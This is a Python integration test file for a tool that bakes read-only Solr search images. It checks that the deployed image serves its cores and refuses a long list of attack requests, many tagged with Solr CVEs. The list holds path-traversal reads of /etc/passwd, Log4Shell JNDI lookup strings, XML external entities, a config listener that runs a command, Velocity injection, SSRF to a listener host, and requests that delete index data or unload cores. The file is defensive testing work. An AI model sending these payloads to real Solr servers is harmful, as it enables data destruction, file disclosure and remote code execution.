"""The baked image as it is deployed: read-only, with configurations that Solr cannot serve so as they are."""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import secrets
import shutil
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest
import requests

from haybale.checkout import Checkout
from haybale.config import ImageSettings, Project, Settings
from haybale.errors import VerifyError
from haybale.image_ref import ImageRef
from haybale.images.bases.base_image import ensure_base_image
from haybale.images.build import build_solr_image
from haybale.index import bake
from haybale.index.home import CoreFolder, close_home, serve_core, tune_home, write_home
from haybale.index.serving import JVM_OPTIONS, PROBES, REFUSALS
from haybale.index.solrconfig import SOLRCONFIG
from haybale.tools.engine import sdk
from haybale.tools.solr import Solr
from haybale.version import Version

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("engine")]

# The run of these tests (conftest.py).
RUN = os.environ["HAYBALE_TEST_RUN"]
LABELS = {"io.haybale.test": RUN}

DOCUMENTS = 3

FACTORY = '<schemaFactory class="ClassicIndexSchemaFactory"/>'
LOCK = "<lockType>${solr.lock.type:single}</lockType>"
HANDLER = '<updateHandler class="solr.DirectUpdateHandler2">'
UPDATE_LOG = f'{HANDLER}<updateLog><str name="dir">${{solr.ulog.dir:}}</str></updateLog>'
DATA = "<dataDir>${solr.data.dir:}</dataDir>"

# What is replaced in the reference site's solrconfig.xml: each is a core.
CHANGES: Mapping[str, Mapping[str, str]] = {
    "as-it-is": {},
    "no-factory": {FACTORY: ""},
    "own-managed-schema": {FACTORY: ""},
    "native": {LOCK: "<lockType>native</lockType>"},
    "no-lock": {LOCK: ""},
    "update-log": {HANDLER: UPDATE_LOG},
    "all": {FACTORY: "", LOCK: "<lockType>${solr.lock.type:native}</lockType>", HANDLER: UPDATE_LOG},
    "elsewhere": {DATA: "<dataDir>/var/solr/elsewhere</dataDir>"},
    "in-memory": {"solr.NRTCachingDirectoryFactory": "solr.RAMDirectoryFactory"},
    "suggester": {
        "</config>": '<searchComponent name="suggest" class="solr.SuggestComponent"><lst name="suggester">'
        '<str name="name">words</str><str name="lookupImpl">AnalyzingInfixLookupFactory</str>'
        '<str name="dictionaryImpl">DocumentDictionaryFactory</str><str name="field">text</str>'
        '<str name="suggestAnalyzerFieldType">text_spelling</str></lst></searchComponent>'
        '<requestHandler name="/suggest" class="solr.SearchHandler"><lst name="defaults">'
        '<str name="suggest">true</str><str name="suggest.dictionary">words</str></lst>'
        '<arr name="components"><str>suggest</str></arr></requestHandler></config>'
    },
    "managed-words": {},
    "outdated": {
        FACTORY: "",
        "</config>": '<queryResponseWriter name="xslt" class="solr.XSLTResponseWriter"/>'
        '<requestHandler name="/admin/ping" class="solr.PingRequestHandler">'
        '<lst name="invariants"><str name="q">word</str></lst></requestHandler></config>',
    },
}  # fmt: skip

# An update log needs the field; managed stop words are of a type of their own.
VERSION = (
    '<fieldType name="plong" class="solr.LongPointField" docValues="true"/>'
    '<field name="_version_" type="plong" indexed="false" stored="false" docValues="true"/></schema>'
)
MANAGED = (
    '<fieldType name="managed" class="solr.TextField"><analyzer>'
    '<tokenizer class="solr.StandardTokenizerFactory"/>'
    '<filter class="solr.ManagedStopFilterFactory" managed="english"/></analyzer></fieldType>'
    '<field name="managed" type="managed"/></schema>'
)
OUTDATED = (
    '<fieldType name="place" class="solr.LatLonType" subFieldSuffix="_coordinate"/>'
    "<defaultSearchField>text</defaultSearchField></schema>"
)
STOP_WORDS = (
    '{"initArgs": {"ignoreCase": true}, "initializedOn": "2020-01-01T00:00:00.000Z",'
    ' "managedList": ["nonsense"]}'
)


def configuration(root: Path, folder: Path, core: str) -> Path:
    """Make the core's variant of the reference site's configuration."""
    conf = folder / core
    shutil.copytree(root / "solr_conf", conf)
    text = (conf / SOLRCONFIG).read_text(encoding="utf-8")
    for old, new in CHANGES[core].items():
        assert old in text
        text = text.replace(old, new)
    (conf / SOLRCONFIG).write_text(text, encoding="utf-8")
    schema = (conf / "schema.xml").read_text(encoding="utf-8")
    if core in {"update-log", "all"}:
        (conf / "schema.xml").write_text(schema.replace("</schema>", VERSION), encoding="utf-8")
    if core == "outdated":
        (conf / "schema.xml").write_text(schema.replace("</schema>", OUTDATED), encoding="utf-8")
    if core == "managed-words":
        (conf / "schema.xml").write_text(schema.replace("</schema>", MANAGED), encoding="utf-8")
        (conf / "_schema_analysis_stopwords_english.json").write_text(STOP_WORDS, encoding="utf-8")
    if core == "own-managed-schema":
        (conf / "schema.xml").rename(conf / "managed-schema")
    return conf


def ask(url: str, path: str, **parameters: str) -> Any:
    answer = requests.get(f"{url}/solr/{path}", params=parameters, timeout=60)
    assert answer.ok, answer.text
    return answer.json()


@dataclass(frozen=True, kw_only=True)
class Baked:
    """An image with every core, and what it was made of: the configurations, and Solr's home."""

    image: ImageRef
    folders: Mapping[str, Path]
    home: Path

    @property
    def cores(self) -> dict[str, CoreFolder]:
        return {core: CoreFolder(folder=conf, label=core) for core, conf in self.folders.items()}


@pytest.fixture(scope="module")
def checkout(root: Path, solr_image: str) -> Checkout:
    name = f"haybale-test-{RUN}-{secrets.token_hex(4)}"
    settings = Settings(name=name, registry=name, core="none", images=ImageSettings(solr=solr_image))
    version = Version(major=1, minor=2, patch=3)
    return Checkout(project=Project(root=root, settings=settings), env=os.environ, version=version, head=None)


@pytest.fixture(scope="module")
def baked(root: Path, checkout: Checkout, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Baked]:
    folder = tmp_path_factory.mktemp("baked")
    baked = Baked(
        image=ImageRef.parse(f"{checkout.settings.name}:latest"),
        folders={core: configuration(root, folder / "conf", core) for core in CHANGES},
        home=folder / "home",
    )
    before = {file: file.read_bytes() for conf in baked.folders.values() for file in conf.iterdir()}
    indexing = folder / "indexing"
    write_home(indexing, baked.cores)
    tune_home(indexing, baked.cores, "512m")
    try:
        build_solr_image(checkout, baked.image, indexing, LABELS, print, core="none")
        write_home(baked.home, baked.cores)
        fill(baked, folder / "made")
        close_home(baked.home, baked.cores)
        build_solr_image(checkout, baked.image, baked.home, LABELS, print, core="none", options=JVM_OPTIONS)
        assert {
            file: file.read_bytes() for conf in baked.folders.values() for file in conf.iterdir()
        } == before
        yield baked
    finally:
        sdk.remove_image(baked.image)


def fill(baked: Baked, made: Path) -> None:
    """Make the index of every core, and have it served."""
    with sdk.started_container(baked.image, labels=LABELS, port=8983) as container:
        url = f"http://{sdk.published_address(container, 8983)}"
        for core in baked.cores:
            server = Solr(url, core)
            server.wait_ready(120, lambda: sdk.is_container_running(container))
            documents = [
                {"id": f"{number}", "django_ct": "a.b", "django_id": f"{number}", "text": f"word{number}"}
                for number in range(DOCUMENTS)
            ]
            update = f"{url}/solr/{core}/update?commit=true"
            requests.post(update, json=documents, timeout=60).raise_for_status()
            server.optimize()
        bake.stop_solr(container)
        for core, conf in baked.cores.items():
            assert bake.copy_index(container, core, baked.home / core / "data")
            bake.copy_configuration(container, core, made / core)
            serve_core(baked.home / core, conf, made / core, {"a.b": DOCUMENTS})


@contextlib.contextmanager
def deployed(image: ImageRef, *cores: str) -> Iterator[str]:
    """Start an image as it is deployed, and yield its address once these cores answer."""
    with sdk.started_container(
        image, labels=LABELS, port=8983, user=bake.USER, written=bake.WRITTEN
    ) as container:
        url = f"http://{sdk.published_address(container, 8983)}"
        for core in cores:
            Solr(url, core).wait_ready(120, lambda: sdk.is_container_running(container))
        yield url


@pytest.fixture(scope="module")
def solr(baked: Baked) -> Iterator[str]:
    """Yield the address of the baked image, served."""
    with deployed(baked.image, *baked.cores) as url:
        yield url


def test_verify_image_accepts_every_configuration_as_it_is_served(baked: Baked) -> None:
    bake.verify_image(
        str(baked.image), {core: {"a.b": DOCUMENTS} for core in baked.cores}, LABELS, is_closed=True
    )


def test_suggestions_and_managed_stop_words_are_served(solr: str) -> None:
    suggested = ask(solr, "suggester/suggest", **{"suggest.q": "wor"})["suggest"]["words"]["wor"]
    assert suggested["numFound"] > 0
    found = ask(solr, "managed-words/select", q="a nonsense b", df="managed", debug="query")
    assert found["debug"]["parsedquery"] == "+(+managed:a +managed:b)"


def test_verify_image_refuses_a_configuration_that_cannot_be_served_so(
    checkout: Checkout, baked: Baked, other_image: ImageRef, tmp_path: Path
) -> None:
    own = tmp_path / "own"
    write_home(own, {"native": baked.cores["native"]})
    shutil.copytree(baked.home / "native/data", own / "native/data")
    build_solr_image(checkout, other_image, own, LABELS, print, core="none")
    with pytest.raises(VerifyError, match=r"does not serve the core native: .*write\.lock") as refused:
        bake.verify_image(str(other_image), {"native": {"a.b": DOCUMENTS}}, LABELS, is_closed=False)
    assert "read-only" in refused.value.cause


@pytest.fixture
def other_image(checkout: Checkout) -> Iterator[ImageRef]:
    name = ImageRef.parse(f"{checkout.settings.name}:other")
    yield name
    sdk.remove_image(name)


# Listens beside Solr, and prints a line for each connection.
LISTENER = """
import socket
server = socket.create_server(("", 9999))
print("listening", flush=True)
while True:
    connection, _ = server.accept()
    print("connected", flush=True)
    connection.close()
"""

FORM, JSON, XML = "application/x-www-form-urlencoded", "application/json", "application/xml"

# The core that is attacked, and another one beside it.
CORE, OTHER = "as-it-is", "suggester"

DELETE = '{"delete": {"query": "*:*"}, "commit": {"softCommit": true}}'
DELETE_XML = "<update><delete><query>*:*</query></delete><commit/></update>"
VELOCITY = (
    '{"update-queryresponsewriter": {"name": "velocity", "class": "solr.VelocityResponseWriter",'
    ' "params.resource.loader.enabled": "true"}}'
)
EXECUTABLE = (
    '{"add-listener": {"event": "postCommit", "name": "x",'
    ' "class": "solr.RunExecutableListener", "exe": "id"}}'
)
ENTITY = '<!DOCTYPE a SYSTEM "http://{listener}/x"><a></a>'
LOOKUP = "${jndi:ldap://{listener}/x}"
IMPORT = '<dataConfig><dataSource type="URLDataSource"/><document/></dataConfig>'
SUBQUERY = {"q": "*:*", "rows": "1", "fl": "id,other:[subquery]"}
BACKWARD = {"q": "*:*", "rows": "1"}


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A request: what it is after, its path, and with what it is answered.

    In path, parameters, body and headers, {core}, {other} and {listener} (HOST:PORT) are replaced.
    """

    name: str
    path: str
    parameters: Mapping[str, str | list[str]] = field(default_factory=dict)
    body: str | None = None
    kind: str = JSON
    headers: Mapping[str, str] = field(default_factory=dict)
    statuses: tuple[int, ...] = REFUSALS


def get(name: str, path: str, /, **parameters: str | list[str]) -> Attack:
    """A request with these parameters (__ is a point)."""
    dotted = {key.replace("__", "."): value for key, value in parameters.items()}
    return Attack(name=name, path=path, parameters=dotted)


def failed_ping(name: str, path: str, /, **parameters: str | list[str]) -> Attack:
    return replace(get(name, path, **parameters), statuses=(500, 503))


def ignored(name: str, path: str, /, **parameters: str | list[str]) -> Attack:
    return replace(get(name, path, **parameters), statuses=(200,))


def post(name: str, path: str, body: str, kind: str = JSON, /, **parameters: str) -> Attack:
    return Attack(name=name, path=path, body=body, kind=kind, parameters=parameters)


# By the public CVEs of ten years, and what was found by probing.
ATTACKS = (
    post("update, delete", "/{core}/update", DELETE, commit="true"),
    post("update, delete in XML", "/{core}/update", DELETE_XML, XML, softCommit="true"),
    post("update, a slash behind", "/{core}/update/", DELETE),
    post("update, by slashes", "//{core}//update", DELETE),
    post("update, by a parameter of its path", "/{core}/update;x=/select", DELETE),
    post("update, by a parent", "/{core}/select/../update", DELETE),
    post("update, by an encoded parent", "/{core}/select/%2e%2e/update", DELETE),
    post("update, by a parent with a parameter", "/{core}/select/..;/update", DELETE),
    post("update, by an encoded slash", "/{core}/select%2f..%2fupdate", DELETE),
    post("update, JSON", "/{core}/update/json", DELETE),
    post("update, documents", "/{core}/update/json/docs", '{"id": "9"}', commit="true"),
    post("update, CSV", "/{core}/update/csv", "id\n9\n", "text/csv", commit="true"),
    post("update, CBOR", "/{core}/update/cbor", "\x80", "application/cbor", commit="true"),
    post("update, by the collection's name", "/{core}/update", DELETE, collection="{other}"),
    get("update, commit", "/{core}/update", commit="true"),
    get("update, optimize", "/{core}/update", optimize="true"),
    get("update, a body in the address", "/{core}/update", stream__body=DELETE_XML, commit="true"),
    get("update, a body elsewhere", "/{core}/update", stream__url="http://{listener}/x", commit="true"),
    get("update, a body in a file", "/{core}/update", stream__file="/etc/passwd", commit="true"),
    post("update, extract: CVE-2025-66516", "/{core}/update/extract", ENTITY, XML, extractOnly="true"),
    get("qt: SOLR-3161", "/{core}/select", qt="/update", commit="true", stream__body=DELETE_XML),
    failed_ping("qt of a ping", "/{core}/admin/ping", qt="/update", commit="true"),
    failed_ping("qt of a ping, replication", "/{core}/admin/ping", qt="/replication", command="details"),
    failed_ping("ping, out of service", "/{core}/admin/ping", action="disable"),
    get("subquery, update", "/{core}/select", **SUBQUERY, other__qt="/update", other__optimize="true"),
    get("subquery, replication", "/{core}/select", **SUBQUERY, other__qt="/replication",
        other__command="fetchindex", other__leaderUrl="http://{listener}/solr/x"),
    get("subquery, stream", "/{core}/select", **SUBQUERY, other__qt="/stream",
        other__expr='search(x, zkHost="{listener}", q="*:*", fl="id", sort="id asc")'),
    get("subquery, unload", "/{core}/select", **SUBQUERY, other__qt="/admin/cores", other__action="UNLOAD",
        other__core="{other}"),
    get("subquery, rename", "/{core}/select", **SUBQUERY, other__qt="/admin/cores", other__action="RENAME",
        other__core="{other}", other__other="x"),
    get("subquery, properties", "/{core}/select", **SUBQUERY, other__qt="/admin/info/properties"),
    get("subquery, of another core", "/{core}/select", q="*:*", fl="other:[subquery fromIndex={other}]",
        other__q="*:*"),
    get("core admin, unload", "/admin/cores", action="UNLOAD", core="{core}"),
    get("core admin, unload and delete", "/admin/cores", action="UNLOAD", core="{core}",
        deleteInstanceDir="true"),
    get("core admin, behind a harmless action", "/admin/cores", action=["STATUS", "UNLOAD"], core="{core}"),
    get("core admin, before a harmless action", "/admin/cores", action=["UNLOAD", "STATUS"], core="{core}"),
    get("core admin, a slash behind", "/admin/cores/", action="UNLOAD", core="{core}"),
    post("core admin, as a form", "/admin/cores", "action=UNLOAD&core=as-it-is", FORM),
    get("core admin, rename", "/admin/cores", action="RENAME", core="{core}", other="x"),
    get("core admin, swap", "/admin/cores", action="SWAP", core="{core}", other="{other}"),
    get("core admin, reload", "/admin/cores", action="RELOAD", core="{core}"),
    get("core admin, status", "/admin/cores", action="STATUS"),
    get("core admin, create: CVE-2025-24814", "/admin/cores", action="CREATE", name="x",
        configSet="_default"),
    get("core admin, create: CVE-2026-22444", "/admin/cores", action="CREATE", name="x",
        instanceDir="\\\\{listener}\\x"),
    get("core admin, merge", "/admin/cores", action="MERGEINDEXES", core="{core}", indexDir="/tmp"),
    get("core admin, split", "/admin/cores", action="SPLIT", core="{core}", targetCore="{other}"),
    get("core admin, backup: CVE-2023-50386", "/admin/cores", action="BACKUPCORE", core="{core}", name="x",
        location="/tmp"),
    get("core admin, restore: CVE-2024-45217", "/admin/cores", action="RESTORECORE", core="{core}", name="x",
        location="/tmp"),
    get("core admin, snapshot", "/admin/cores", action="CREATESNAPSHOT", core="{core}", commitName="x"),
    get("core admin, through a core", "/{core}/admin/cores", action="UNLOAD", core="{core}"),
    get("authentication: CVE-2024-45216", "/{core}/update:/admin/info/key", commit="true"),
    get("authentication: CVE-2024-45216, core admin", "/admin/cores:/admin/info/key", action="UNLOAD",
        core="{core}"),
    get("authorization: CVE-2026-22022", "/{core}/config/"),
    get("authorization, read", "/admin/authorization"),
    post("authorization, edit", "/admin/authorization", '{"set-permission": {"name": "all", "role": null}}'),
    post("authentication, edit", "/admin/authentication", '{"set-property": {"blockUnknown": false}}'),
    get("replication, fetch: CVE-2021-27905", "/{core}/replication", command="fetchindex",
        masterUrl="http://{listener}/solr/x", leaderUrl="http://{listener}/solr/x"),
    get("replication, backup: CVE-2020-13941", "/{core}/replication", command="backup",
        location="/tmp", name="x"),
    get("replication, restore", "/{core}/replication", command="restore", location="/tmp", name="x"),
    get("replication, a file: CVE-2017-3163", "/{core}/replication", command="filecontent",
        wt="filestream", generation="1", file="../../../../../../etc/passwd"),
    get("shards: CVE-2017-3164", "/{core}/select", q="*:*", shards="{listener}/solr/x"),
    get("shards, its own address", "/{core}/select", q="*:*", shards="127.0.0.1:8983/solr/{core}",
        shards__qt="/update"),
    failed_ping("shards of a ping", "/{core}/admin/ping", shards="{listener}/solr/x", distrib="true"),
    get("join by ZooKeeper", "/{core}/select",
        q='{!join method="crossCollection" fromIndex="x" from="id" to="id" zkHost="{listener}"}*:*'),
    get("join by address", "/{core}/select",
        q='{!join method="crossCollection" fromIndex="x" from="id" to="id" solrUrl="http://{listener}"}*:*'),
    get("stream by ZooKeeper: CVE-2023-50298", "/{core}/stream",
        expr='search(x, zkHost="{listener}", q="*:*", fl="id", sort="id asc")'),
    get("SQL: CVE-2022-39135", "/{core}/sql",
        stmt='select EXTRACTVALUE(\'<!DOCTYPE a SYSTEM "http://{listener}">\', "/a") from x'),
    get("graph", "/{core}/graph", expr="search(x)"),
    get("export", "/{core}/export", q="*:*", sort="id asc", fl="id"),
    get("terms", "/{core}/terms", terms__fl="text"),
    get("real-time get", "/{core}/get", getVersions="9", sync="http://{listener}/solr/x"),
    get("entity in a query: CVE-2017-12629", "/{core}/select", q="{!xmlparser v='" + ENTITY + "'}"),
    post("listener: CVE-2017-12629", "/{core}/config", EXECUTABLE),
    post("velocity: CVE-2019-17558", "/{core}/config", VELOCITY),
    ignored("velocity's template: CVE-2019-17558", "/{core}/select", **BACKWARD, wt="velocity",
        v__template="custom", v__template__custom="#set($x=1)"),
    ignored("stylesheet elsewhere", "/{core}/select", **BACKWARD, wt="xslt", tr="http://{listener}/x.xsl"),
    post("JMX: CVE-2019-0192", "/{core}/config", '{"set-property": {"jmx.serviceUrl": "rmi://x"}}'),
    get("configuration", "/{core}/config"),
    post("configuration, parameters", "/{core}/config/params", '{"set": {"x": {"q": "*:*"}}}'),
    get("schema", "/{core}/schema"),
    post("schema, edit", "/{core}/schema", '{"add-field": {"name": "x", "type": "string"}}'),
    get("files", "/{core}/admin/file", file="solrconfig.xml"),
    get("files, of a writer", "/{core}/admin/file", file="../core.properties", contentType="text/plain"),
    get("Luke", "/{core}/admin/luke"),
    get("segments", "/{core}/admin/segments"),
    get("mbeans", "/{core}/admin/mbeans"),
    get("system, of a core", "/{core}/admin/system"),
    get("analysis", "/{core}/analysis/field", analysis__fieldtype="text", analysis__fieldvalue="x"),
    get("echo", "/{core}/debug/dump", stream__url="http://{listener}/x"),
    get("tasks", "/{core}/tasks/list"),
    get("import: CVE-2019-0193", "/{core}/dataimport", command="full-import", dataConfig=IMPORT),
    post("configsets, upload: CVE-2020-13957", "/admin/configs", "PK", "application/zip",
        action="UPLOAD", name="x"),
    get("configsets", "/admin/configs", action="LIST"),
    get("collections", "/admin/collections", action="CREATE", name="x", numShards="1"),
    get("metrics: CVE-2023-50290", "/admin/metrics", group="jvm"),
    get("properties: CVE-2023-50291", "/admin/info/properties"),
    get("system", "/admin/info/system"),
    get("threads", "/admin/info/threads"),
    post("log levels", "/admin/info/logging", "set=root:TRACE", FORM),
    get("log", "/admin/info/logging", since="0"),
    get("ZooKeeper", "/admin/zookeeper", path="/"),
    get("V2: CVE-2023-50292", "/____v2/schema-designer/info", configSet="x"),
    get("V2, cores", "/____v2/cores"),
    post("V2, unload", "/____v2/cores/{core}", '{"unload": {}}'),
    post("V2, update", "/____v2/cores/{core}/update", DELETE),
    get("V2, outside", "/api/cores"),
    get("V2, system", "/____v2/node/system"),
    get("lookup: CVE-2021-44228", "/{core}/select", q=LOOKUP),
    get("lookup, refused", "/admin/cores", action=LOOKUP),
    Attack(
        name="lookup, headers: CVE-2021-44228", path="/{core}/select", statuses=(200,),
        headers={"User-Agent": LOOKUP, "X-Forwarded-For": LOOKUP, "Referer": LOOKUP},
    ),
    get("more like this, a body elsewhere", "/{core}/mlt", stream__url="http://{listener}/x"),
    post("JSON request", "/{core}/select", '{"query": "*:*", "params": {"shards": "{listener}/solr/x"}}'),
)  # fmt: skip


@pytest.fixture(scope="module")
def listener() -> Iterator[str]:
    """Yield a container that listens on the network on which Solr is, for what Solr should not ask."""
    base = ensure_base_image(ImageRef.parse("python:3.13-slim"), "python", os.environ, print)
    with sdk.started_container(base.name, ["python", "-c", LISTENER], labels=LABELS) as container:
        while "listening" not in sdk.container_log_tail(container):
            assert sdk.is_container_running(container)
        yield container


def connections(listener: str) -> int:
    return sdk.client().containers.get(listener).logs().count(b"connected")


def send(solr: str, listener: str, attack: Attack, timeout: float = 60) -> int | None:
    """Send an attack as it is written, its path too; return the status, None where none came in time."""
    networks = sdk.client().containers.get(listener).attrs["NetworkSettings"]["Networks"]
    (address,) = (network["IPAddress"] for network in networks.values())

    def fill_in(text: str) -> str:
        for name, value in (("core", CORE), ("other", OTHER), ("listener", f"{address}:9999")):
            text = text.replace(f"{{{name}}}", value)
        return text

    parameters = {
        name: [fill_in(each) for each in ([value] if isinstance(value, str) else value)]
        for name, value in attack.parameters.items()
    }
    path = fill_in(attack.path)
    target = f"{path if path.startswith('/api/') else f'/solr{path}'}?{urlencode(parameters, doseq=True)}"
    headers = {name: fill_in(value) for name, value in attack.headers.items()}
    body = None
    if attack.body is not None:
        headers["Content-Type"], body = attack.kind, fill_in(attack.body).encode("latin-1")
    with contextlib.closing(
        http.client.HTTPConnection(solr.removeprefix("http://"), timeout=timeout)
    ) as sent:
        sent.request("GET" if body is None else "POST", target, body, headers)
        try:
            return sent.getresponse().status
        except TimeoutError:
            return None


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_served_solr_keeps_its_documents_and_asks_nobody(solr: str, listener: str, attack: Attack) -> None:
    before = connections(listener)
    status = send(solr, listener, attack)
    assert status in attack.statuses
    assert [Solr(solr, core).counts() for core in (CORE, OTHER)] == [{"a.b": DOCUMENTS}] * 2
    assert connections(listener) == before


def test_attacks_succeed_where_solr_is_open(
    checkout: Checkout, baked: Baked, other_image: ImageRef, listener: str, tmp_path: Path
) -> None:
    """So it is haybale that refuses them; and each probe finds its door open."""
    place, own = baked.cores[CORE], tmp_path / "own"
    write_home(own, {CORE: place, OTHER: place})
    for core in (CORE, OTHER):
        shutil.copytree(baked.home / CORE / "data", own / core / "data")
    build_solr_image(checkout, other_image, own, LABELS, print, core="none")
    attacks = {attack.name: attack for attack in ATTACKS}
    with deployed(other_image, CORE, OTHER) as url:
        server = Solr(url, CORE)
        found = [
            server.request(each.path.format(core=CORE), each.parameters, each.body) in REFUSALS
            for each in PROBES
        ]
        assert found == [False] * (len(PROBES) - 1) + [True], "Solr itself sends no search on"
        before = connections(listener)
        send(url, listener, attacks["join by ZooKeeper"], timeout=1)
        assert connections(listener) > before
        send(url, listener, attacks["subquery, unload"])
        assert Solr(url, OTHER).request(f"/{OTHER}/select", {}) == 404
        send(url, listener, attacks["update, delete"])
        assert server.counts() == {}


def test_served_solr_answers_what_haystack_asks(solr: str) -> None:
    """As pysolr asks it: with a slash behind the handler's name, and long questions as a form."""
    question = {"q": "text:word1", "fq": "django_ct:(a.b)", "wt": "json", "spellcheck": "true", "hl": "true"}
    found = [
        requests.get(f"{solr}/solr/{CORE}/select/", params=question, timeout=60),
        requests.post(f"{solr}/solr/{CORE}/select/", data=question, timeout=60),
        requests.get(f"{solr}/solr/{CORE}/mlt/", params={"q": "id:1", "mlt.fl": "text"}, timeout=60),
    ]
    assert [answer.status_code for answer in found] == [200] * 3
    assert [answer.json()["response"]["numFound"] for answer in found[:2]] == [1, 1]
    joined = ask(solr, f"{CORE}/select", q="{!join from=django_ct to=django_ct score=none}id:1")
    assert joined["response"]["numFound"] == DOCUMENTS


def test_served_solr_tells_how_many_documents_there_should_be(solr: str) -> None:
    answer = ask(solr, f"{CORE}/haybale/documents/", q="nothing", rows="9", expected="less")
    assert json.loads(answer["responseHeader"]["params"]["expected"]) == {"a.b": DOCUMENTS}
    assert answer["response"]["numFound"] == DOCUMENTS
    assert answer["facet_counts"]["facet_fields"]["django_ct"] == ["a.b", DOCUMENTS, None, 0]


def test_served_solr_keeps_its_suggestions(solr: str) -> None:
    parameters = {"suggest.q": "wor", "suggest.build": "true", "suggest.reloadAll": "true"}
    for _ in range(2):
        assert ask(solr, f"{OTHER}/suggest", **parameters)["suggest"]["words"]["wor"]["numFound"] > 0
